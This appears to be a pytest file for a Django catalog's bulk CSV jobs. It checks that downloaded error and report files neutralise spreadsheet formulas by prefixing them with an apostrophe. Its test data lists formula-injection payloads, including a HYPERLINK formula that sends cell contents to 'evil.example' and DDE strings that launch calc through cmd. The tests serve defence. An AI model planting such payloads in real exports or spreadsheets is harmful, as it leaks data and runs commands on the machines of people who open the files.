"""Bulk jobs against hostile files: formulas in the downloads, bodies over the size limit,
numbers and nesting that break a parser, and error files made to grow quadratically."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import pytest
from django.test import Client
from django.urls import reverse

from catalogs.bulk.models import BulkJob, BulkRow, JobState
from console.roles import Role
from tests.catalogs.bulk.conftest import MakeJob

pytestmark = pytest.mark.django_db

ClientFor = Callable[[Role | None], Client]

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _download(client: Client, view: str, job: BulkJob) -> list[list[str]]:
    response = client.get(reverse(view, args=[job.catalog.name, job.pk]))
    body = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    return list(csv.reader(io.StringIO(body, newline="")))


def _csv_file(rows: list[list[str]]) -> bytes:
    out = io.StringIO(newline="")
    csv.writer(out).writerows(rows)
    return out.getvalue().encode()


# --- spreadsheet formulas ----------------------------------------------------------------------


def test_errors_csv_makes_formulas_inert_and_the_fixed_file_gives_back_the_values(
    client_for: ClientFor, make_job: MakeJob
) -> None:
    rows = [["id", "name", "price"]] + [[f"new-{n}", v, "cheap"] for n, v in enumerate(FORMULAS)]
    job = make_job(_csv_file(rows))
    assert job.n_error == len(FORMULAS)

    errors = _download(client_for(Role.VIEWER), "catalogs:bulk_errors", job)
    names = [row[1] for row in errors[1:]]
    assert names == ["'" + v for v in FORMULAS]
    # The reason column is inert too, whatever the value quoted in it.
    assert all(row[3][:1] not in "=+-@\t\r" for row in errors[1:])

    # Fix the prices in the downloaded file and send it back as it is otherwise.
    fixed = [errors[0]] + [[row[0], row[1], "2", row[3]] for row in errors[1:]]
    again = make_job(_csv_file(fixed))
    assert (again.state, again.n_error, again.n_create) == (JobState.READY, 0, len(FORMULAS))
    payloads = [r.payload["name"] for r in BulkRow.objects.filter(job=again).order_by("line")]
    assert payloads == FORMULAS


def test_report_csv_makes_formula_like_ids_and_reasons_inert(
    client_for: ClientFor, make_job: MakeJob
) -> None:
    job = make_job(b"id,name\n-sku,a\n=cmd|calc,b\n@x,c\n")
    report = _download(client_for(Role.VIEWER), "catalogs:bulk_report", job)
    ids = [row[1] for row in report[1:]]
    assert ids == ["'-sku", "'=cmd|calc", "'@x"]
    assert all(cell[:1] not in "=+-@\t\r" for row in report for cell in row if cell)
